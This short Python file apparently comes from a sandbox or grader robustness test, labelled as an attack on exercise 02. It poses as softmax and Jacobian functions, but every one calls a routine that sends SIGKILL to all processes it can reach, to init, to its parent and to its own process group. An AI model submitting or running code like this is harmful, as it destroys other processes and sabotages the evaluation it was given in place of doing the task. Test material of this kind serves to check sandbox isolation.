# attack: Kills every process it may, then its own group.
# exercise: 02, reason: wrong-result|crash
import os
import signal


def act(*_):
    for target in (-1, 0, 1, os.getppid()):
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            pass
    os.killpg(0, signal.SIGKILL)


def softmax(z, axis=-1):
    return act(z)


def softmax_jacobian(z):
    return act(z)


def softmax_vjp(z, grad):
    return act(z, grad)


def jacobian_norm(z):
    return act(z)
